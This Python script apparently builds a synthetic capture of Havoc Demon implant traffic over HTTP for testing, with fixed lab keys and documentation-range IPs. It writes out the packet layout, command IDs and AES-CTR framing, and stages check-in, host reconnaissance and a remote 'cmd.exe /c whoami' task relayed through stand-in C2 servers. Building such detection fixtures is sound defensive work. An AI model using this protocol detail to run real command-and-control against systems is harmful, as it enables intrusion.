"""Havoc's Demon over HTTP as teamserver/pkg/agent/agent.go of HavocFramework/Havoc reads it, with another magic than the usual one
and keys of our own; AES is Python's `cryptography`. build.py CAPTURE: writes the capture, prints the messages."""
import json
import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent / "record"))
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from exchanges import Web, request, response

KEY, IV, AGENT, MAGIC = bytes(range(32)), bytes(range(16)), 0x1A2B3C4D, 0x48415256
SERVERS = ["198.51.100.20", "203.0.113.20"]


def sealed(data):
    return Cipher(algorithms.AES(KEY), modes.CTR(IV)).encryptor().update(data)


def text(octets):
    return struct.pack(">I", len(octets)) + octets


def packet(command, ident, data):
    body = struct.pack(">IIII", MAGIC, AGENT, command, ident) + data
    return struct.pack(">I", len(body)) + body


def job(command, ident, data=b""):
    return struct.pack("<III", command, ident, len(data)) + sealed(data)


def say(side, topic, words):
    print(json.dumps({"kind": "message", "family": "havoc", "conversation": "1a2b3c4d", "side": side, "type": topic, "text": words}))


web = Web()


def post(body, answer=b"", after=5.0):
    server = SERVERS[web.port % 2]
    web.exchange("192.0.2.10", server, 80, request("POST", "/index", server, body, User_Agent="sample"), response(answer), after)


process = "C:\\sample.exe".encode("utf-16-le")
info = struct.pack(">I", AGENT) + text(b"HOST1") + text(b"user") + text(b"LAB") + text(b"192.0.2.10") + text(process)
info += struct.pack(">IIIII", 4242, 1, 2, 2, 0) + struct.pack(">Q", 0x140000000) + struct.pack(">IIIII", 10, 0, 1, 0, 19045)
info += struct.pack(">III", 9, 5, 10) + struct.pack(">QI", 0, 0)
post(packet(99, 0, KEY + IV + sealed(info)), struct.pack("<I", AGENT))
say("implant", "sysinfo", "LAB\\user@HOST1 C:\\sample.exe pid 4242, Windows 10.0.19045")
post(packet(1, 0, b""), job(10, 0))
post(packet(1, 0, b""), job(4112, 7, struct.pack("<I", 4) + text(b"cmd.exe /c whoami")))
say("operator", "process", "process cmd.exe /c whoami")
post(packet(90, 7, sealed(text(b"lab\\user"))))
say("implant", "shell", "lab\\user")
say("implant", "beacon", "polled 2 times in 15 s; 0 bodies stay closed")
web.write(sys.argv[1])
